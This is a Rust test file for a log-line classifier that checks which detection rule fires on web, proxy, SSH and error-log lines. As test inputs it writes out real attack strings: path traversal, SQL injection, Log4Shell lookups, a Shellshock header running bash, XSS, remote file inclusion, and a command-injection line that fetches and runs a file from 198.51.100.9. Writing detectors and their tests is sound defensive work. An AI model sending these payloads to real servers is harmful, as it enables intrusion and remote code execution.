//! Hand-written lines of the real shapes (documentation addresses) through the parsers
//! and the classifier.

use super::*;
use crate::parse::parse_line;
use crate::vocab::event::Format;
use Category::*;

fn classifier() -> Classifier {
    Classifier::new(true, &[], &[]).unwrap()
}

/// (category, rule name) of a line in `format`, or None.
fn verdict(c: &Classifier, format: Format, line: &str) -> Option<(Category, String)> {
    let line = line.as_bytes();
    let p = parse_line(format, line).unwrap_or_else(|| panic!("no parse: {}", String::from_utf8_lossy(line)));
    c.classify(line, &p, format.log_kind()).map(|h| (h.category, c.rule_name(h.rule).to_string()))
}

fn access(request: &str, status: u16, user: &str, referer: &str, agent: &str) -> String {
    format!("192.0.2.10 - {user} [10/Oct/2025:13:55:36 +0000] \"{request}\" {status} 512 \"{referer}\" \"{agent}\"")
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0";

#[test]
fn benign_requests_are_unclassified() {
    let c = classifier();
    for (request, status) in [
        ("GET / HTTP/1.1", 200),
        ("GET /blog/2025/01/admin-tips-for-home-servers/ HTTP/2.0", 200),
        ("GET /search?q=union+station+opening+hours HTTP/1.1", 200),
        ("GET /favicon.ico HTTP/1.1", 404),
        ("GET /wp-content/themes/x/style.css?ver=6.4 HTTP/1.1", 200),
        ("GET /img/logo.png HTTP/1.1", 304),
        ("GET https://example.net/ HTTP/2.0", 200),
        ("OPTIONS * HTTP/1.1", 200),
    ] {
        let line = access(request, status, "-", "https://example.net/blog/?p=1&x=%20a", BROWSER);
        assert_eq!(verdict(&c, Format::Access, &line), None, "{line}");
    }
}

#[test]
fn request_signatures() {
    let c = classifier();
    let cases: [(&str, u16, &str, &str, Category, &str); 16] = [
        ("GET /wp-login.php HTTP/1.1", 200, "-", BROWSER, Probe, "probe:wp-login"),
        ("GET //phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1", 404, "-", BROWSER, Probe, "probe:phpmyadmin"),
        ("GET /..%2f..%2F..%2fetc/passwd HTTP/1.1", 400, "-", BROWSER, Probe, "inject:traversal"),
        ("GET /cgi-bin/.%252e/.%252e/bin/sh HTTP/1.1", 400, "-", BROWSER, Probe, "inject:cmd-bin-sh"),
        ("GET /?id=1%27%20OR%201=1-- HTTP/1.1", 200, "-", BROWSER, Probe, "sqli:s&1c"),
        ("GET /item?id=1+UNION+ALL+SELECT+1,2 HTTP/1.1", 200, "-", BROWSER, Probe, "inject:sqli-union"),
        ("GET / HTTP/1.1", 200, "-", "${jndi:ldap://198.51.100.9/a}", Probe, "inject:log4shell"),
        (
            "GET /?x=%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D HTTP/1.1",
            200,
            "-",
            BROWSER,
            Probe,
            "inject:log4shell-nested",
        ),
        (
            "GET /shell?cd+/tmp;wget+http://198.51.100.9/x;sh+x HTTP/1.1",
            404,
            "-",
            BROWSER,
            Probe,
            "inject:cmd-downloader",
        ),
        (
            "GET /index.php?s=/Index/\\\\think\\\\app/invokefunction HTTP/1.1",
            200,
            "-",
            BROWSER,
            Probe,
            "inject:php-invokefunction",
        ),
        ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "-", BROWSER, Probe, "xss:script-tag"),
        ("GET /index.php?n=http://198.51.100.9/pizza.htm? HTTP/1.1", 200, "-", BROWSER, Probe, "inject:rfi-url-query"),
        ("GET /wsman/relay.php HTTP/1.1", 404, "-", BROWSER, Probe, "missing:php"),
        ("GET / HTTP/1.1", 200, "-", "sqlmap/1.9.11#stable (https://sqlmap.org)", ScannerAgent, "agent:sqlmap"),
        (
            "GET /.git/config HTTP/1.1",
            404,
            "-",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
            ScannerAgent,
            "agent:nikto",
        ),
        ("PROPFIND /admin%24 HTTP/1.1", 404, "-", "-", Probe, "probe:windows-share-admin"),
    ];
    for (request, status, referer, agent, category, rule) in cases {
        let line = access(request, status, "-", referer, agent);
        assert_eq!(verdict(&c, Format::Access, &line), Some((category, rule.to_string())), "{line}");
    }
    // Shellshock in the referer
    let line = access("GET /cgi-bin/status HTTP/1.1", 200, "-", "() { :; }; /bin/bash -c id", BROWSER);
    assert_eq!(verdict(&c, Format::Access, &line), Some((Probe, "inject:shellshock".into())));
    // a plain link in the referer is not looked into
    let line = access("GET / HTTP/1.1", 200, "-", "https://example.org/wp-login.php", BROWSER);
    assert_eq!(verdict(&c, Format::Access, &line), None);
    // over-long targets
    let line = access(&format!("GET /default.ida?{} HTTP/1.0", "N".repeat(3000)), 404, "-", "-", "-");
    assert_eq!(verdict(&c, Format::Access, &line).unwrap().0, Probe);
}

#[test]
fn request_structure_and_status() {
    let c = classifier();
    let cases: [(&str, u16, &str, Option<(Category, &str)>); 14] = [
        ("CONNECT example.org:443 HTTP/1.1", 405, "-", Some((Connect, "request:connect"))),
        ("GET http://example.org/ HTTP/1.1", 404, "-", Some((Connect, "request:absolute_uri"))),
        ("get / HTTP/1.0", 200, "-", Some((Malformed, "request:bad_method"))),
        ("HELP", 400, "-", Some((Malformed, "request:unknown_method"))),
        ("\\x16\\x03\\x01\\x02\\x00\\x01", 400, "-", Some((Malformed, "request:binary"))),
        ("", 400, "-", Some((Malformed, "request:empty_400"))),
        ("-", 408, "-", Some((Malformed, "request:empty_408"))),
        ("GET /", 200, "-", Some((Malformed, "request:no_protocol"))),
        ("TRACE / HTTP/1.1", 405, "-", Some((Probe, "request:trace"))),
        ("GET /private/ HTTP/1.1", 401, "mallory", Some((AuthBadUser, "status:401_user"))),
        ("GET /private/ HTTP/1.1", 401, "-", Some((Denied, "status:401"))),
        ("GET /server-info HTTP/1.1", 403, "-", Some((Probe, "probe:server-info"))),
        ("GET /private/ HTTP/1.1", 403, "-", Some((Denied, "status:403"))),
        ("GET /private/ HTTP/1.1", 200, "alice", None),
    ];
    for (request, status, user, want) in cases {
        let line = access(request, status, user, "-", "-");
        let want = want.map(|(c, r)| (c, r.to_string()));
        assert_eq!(verdict(&c, Format::Access, &line), want, "{line}");
    }
    // squid: only the proxy's refusals count
    let denied =
        "1386543323.000      4 192.0.2.7 TCP_DENIED/403 4099 GET http://example.org/azenv.php - HIER_NONE/- text/html";
    assert_eq!(verdict(&c, Format::Squid, denied), Some((Connect, "squid:denied".into())));
    let served = "1386543323.000     40 192.0.2.7 TCP_MISS/200 4099 GET http://example.org/wp-login.php - HIER_DIRECT/198.51.100.1 text/html";
    assert_eq!(verdict(&c, Format::Squid, served), None);
}

#[test]
fn sshd_and_login_tags() {
    let c = classifier();
    let h = "Jan  6 00:02:28 host sshd[123]: ";
    let cases: [(&str, Option<(Category, &str)>); 20] = [
        ("Failed password for root from 192.0.2.1 port 22 ssh2", Some((AuthBadPassword, "auth:failed_password"))),
        ("Failed password for invalid user admin from 192.0.2.1 port 22 ssh2", Some((AuthBadUser, "auth:failed_password_invalid_user"))),
        ("Invalid user admin from 192.0.2.1 port 4242", Some((AuthBadUser, "auth:invalid_user"))),
        ("Failed keyboard-interactive/pam for invalid user x from 192.0.2.1 port 1 ssh2", Some((AuthBadUser, "auth:failed_other_auth_invalid_user"))),
        ("User root from 192.0.2.1 not allowed because listed in DenyUsers", Some((AuthBadUser, "auth:user_not_allowed"))),
        ("error: maximum authentication attempts exceeded for root from 192.0.2.1 port 1 ssh2 [preauth]", Some((AuthBadPassword, "auth:max_auth_attempts"))),
        ("Disconnecting authenticating user root 192.0.2.1 port 1: Too many authentication failures [preauth]", None),
        ("error: PAM: Authentication failure for alice from 192.0.2.1", Some((AuthBadPassword, "pam:auth_failure"))),
        // the line's own verdict; the scan takes it back when sshd answers the attempt
        ("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root", Some((AuthBadPassword, "pam:auth_failure"))),
        ("PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root", None),
        ("Failed publickey for invalid user git from 192.0.2.1 port 5 ssh2: RSA SHA256:x", Some((AuthBadUser, "auth:failed_publickey_invalid_user"))),
        ("input_userauth_request: invalid user root [preauth]", None),
        ("Did not receive identification string from 192.0.2.1 port 5", Some((SshPreauth, "sshd:no_identification"))),
        ("Unable to negotiate with 192.0.2.1 port 5: no matching key exchange method found.", Some((SshPreauth, "sshd:negotiation_failure"))),
        ("Received disconnect from 192.0.2.1 port 5:11: Bye Bye [preauth]", Some((SshPreauth, "sshd:received_disconnect_preauth"))),
        ("Received disconnect from 192.0.2.1 port 5:11: disconnected by user", None),
        ("Connection closed by 192.0.2.1 port 5", Some((SshPreauth, "sshd:closed_preauth"))),
        ("Failed publickey for git from 192.0.2.1 port 5 ssh2: RSA SHA256:x", None),
        ("Accepted password for alice from 192.0.2.1 port 5 ssh2", None),
        ("reverse mapping checking getaddrinfo for x.example [192.0.2.1] failed - POSSIBLE BREAK-IN ATTEMPT!", None),
    ];
    for (msg, want) in cases {
        let line = format!("{h}{msg}");
        assert_eq!(verdict(&c, Format::Syslog, &line), want.map(|(c, r)| (c, r.to_string())), "{line}");
    }
    let dropbear = "Mar 24 15:25:51 host dropbear[4092]: bad password attempt for 'root' from 192.0.2.87:5543";
    assert_eq!(verdict(&c, Format::Syslog, dropbear).unwrap().0, AuthBadPassword);
}

#[test]
fn web_error_lines() {
    let c = classifier();
    let a = "[Tue Jan 06 02:32:23.803330 2026] [auth_basic:error] [pid 1] [client 192.0.2.4:5678] ";
    let cases: [(&str, Option<(Category, &str)>); 8] = [
        ("AH01618: user admin not found: /private/", Some((AuthBadUser, "http_auth:user_not_found"))),
        (
            "AH01617: user alice: authentication failure for \"/private/\": Password Mismatch",
            Some((AuthBadPassword, "http_auth:password_mismatch")),
        ),
        ("AH01797: client denied by server configuration: /var/www/html/secret", Some((Denied, "web:access_denied"))),
        ("AH00128: File does not exist: /var/www/html/favicon.ico", None),
        ("AH00128: File does not exist: /var/www/html/wp-login.php", Some((Probe, "probe:wp-login"))),
        ("AH00128: File does not exist: /var/www/html/admin", Some((Probe, "probe:admin"))),
        ("AH02811: script not found or unable to stat: /usr/lib/cgi-bin/kerbynet", Some((Probe, "probe:kerbynet"))),
        (
            "AH01614: client used wrong authentication scheme: /private/",
            Some((AuthBadPassword, "apache:wrong-auth-scheme")),
        ),
    ];
    for (msg, want) in cases {
        let line = format!("{a}{msg}");
        assert_eq!(verdict(&c, Format::ApacheError, &line), want.map(|(c, r)| (c, r.to_string())), "{line}");
    }
    let n = "2025/10/29 20:01:02 [error] 256#0: *99 ";
    let limit = format!("{n}limiting requests, excess: 1.852 by zone \"one\", client: 192.0.2.4, server: x, request: \"GET / HTTP/1.1\", host: \"x\"");
    assert_eq!(verdict(&c, Format::NginxError, &limit), Some((Denied, "nginx:limit_req".into())));
    let tls = format!("{n}SSL_do_handshake() failed (SSL: error:1408F0C6:SSL routines:ssl3_get_record:packet length too long) while SSL handshaking, client: 192.0.2.4, server: 0.0.0.0:443");
    assert_eq!(verdict(&c, Format::NginxError, &tls), Some((Malformed, "nginx:tls-not-tls".into())));
    let upstream = format!("{n}connect() failed (111: Connection refused) while connecting to upstream, client: 192.0.2.4, server: x, request: \"GET /admin/config HTTP/1.1\", upstream: \"http://127.0.0.1:8080/admin/config\", host: \"x\"");
    assert_eq!(verdict(&c, Format::NginxError, &upstream), None);
}

#[test]
fn user_patterns_come_first_and_name_their_line() {
    let dir = std::env::temp_dir().join(format!("knocklog-detect-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let (attack, ignore) = (dir.join("attack.txt"), dir.join("ignore.txt"));
    std::fs::write(&attack, "# mine\n/secret-door\nre:\"GET /api/v2/\\.creds\n").unwrap();
    std::fs::write(&ignore, "192.0.2.99 \n").unwrap();
    let c = Classifier::new(true, std::slice::from_ref(&attack), std::slice::from_ref(&ignore)).unwrap();
    let line = access("GET /api/v2/.creds_backup.json HTTP/1.1", 404, "-", "-", BROWSER);
    assert_eq!(verdict(&c, Format::Access, &line), Some((AttackPattern, format!("{}:3", attack.display()))));
    // an ignore pattern wins over an attack pattern and the built-in rules
    let line =
        access("GET /secret-door/wp-login.php HTTP/1.1", 404, "-", "-", "sqlmap").replace("192.0.2.10", "192.0.2.99");
    assert_eq!(verdict(&c, Format::Access, &line), Some((Ignored, format!("{}:1", ignore.display()))));
    // built-in rules off: only the user's patterns classify
    let bare = Classifier::new(false, std::slice::from_ref(&attack), &[]).unwrap();
    let probe = access("GET /wp-login.php HTTP/1.1", 404, "-", "-", "sqlmap");
    assert_eq!(verdict(&bare, Format::Access, &probe), None);
    let door = access("GET /secret-door HTTP/1.1", 404, "-", "-", BROWSER);
    assert_eq!(verdict(&bare, Format::Access, &door).unwrap().0, AttackPattern);
    // a bad regex names its file and line
    std::fs::write(&attack, "ok\nre:(\n").unwrap();
    let err = Classifier::new(true, std::slice::from_ref(&attack), &[]).err().unwrap().to_string();
    assert!(err.contains("attack.txt:2: invalid regex"), "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn rule_table_and_priority() {
    let c = classifier();
    assert!(c.rule_count() > 500);
    assert_eq!(c.rule_name(0), "auth:failed_password");
    assert_eq!(c.rule_name(u32::MAX), "?");
    // the more specific category wins: a scanner's probe is scanner_agent, a 401 on
    // wp-login.php is probe
    let line = access(
        "GET /wp-login.php HTTP/1.1",
        401,
        "admin",
        "-",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    );
    assert_eq!(verdict(&c, Format::Access, &line).unwrap().0, ScannerAgent);
    let line = access("GET /wp-login.php HTTP/1.1", 401, "admin", "-", BROWSER);
    assert_eq!(verdict(&c, Format::Access, &line).unwrap().0, Probe);
    let order =
        [AttackPattern, Connect, ScannerAgent, Probe, Malformed, AuthBadUser, AuthBadPassword, SshPreauth, Denied];
    assert!(order.windows(2).all(|w| rank(w[0]) < rank(w[1])));
}

#[test]
fn classifier_is_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Classifier>();
    // two classifiers used alternately on one thread: each sees its own verdicts
    let (plain, strict) = (classifier(), {
        let dir = std::env::temp_dir().join(format!("knocklog-detect-sync-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let attack = dir.join("attack.txt");
        std::fs::write(&attack, "/blog/\n").unwrap();
        let c = Classifier::new(true, &[attack], &[]).unwrap();
        std::fs::remove_dir_all(&dir).unwrap();
        c
    });
    let line = access("GET /blog/ HTTP/1.1", 200, "-", "-", BROWSER);
    for _ in 0..3 {
        assert_eq!(verdict(&plain, Format::Access, &line), None);
        assert_eq!(verdict(&strict, Format::Access, &line).unwrap().0, AttackPattern);
    }
    let handles: Vec<_> = (0..2)
        .map(|_| {
            let line = line.clone();
            std::thread::spawn(move || {
                let c = classifier();
                verdict(&c, Format::Access, &line.replace("/blog/", "/.env"))
            })
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap().unwrap().0, Probe);
    }
}

/// nginx's error log quotes the request as the client sent it: the payload rules read
/// it there too. Apache's error log names a file on disk, which they leave alone.
#[test]
fn payloads_in_an_nginx_error_lines_request_are_found() {
    let c = classifier();
    let line = r#"2026/12/05 10:00:00 [error] 123#0: *1 open() "/usr/share/nginx/html/item" failed (2: No such file or directory), client: 203.0.113.7, server: _, request: "GET /item?id=1%27%20or%20%271%27=%271 HTTP/1.1", host: "example.com""#;
    assert_eq!(verdict(&c, Format::NginxError, line), Some((Probe, "sqli:s&sos".into())));
    let plain = line.replace("?id=1%27%20or%20%271%27=%271", "?id=42");
    assert_ne!(verdict(&c, Format::NginxError, &plain).map(|v| v.1), Some("sqli:s&sos".into()));
}
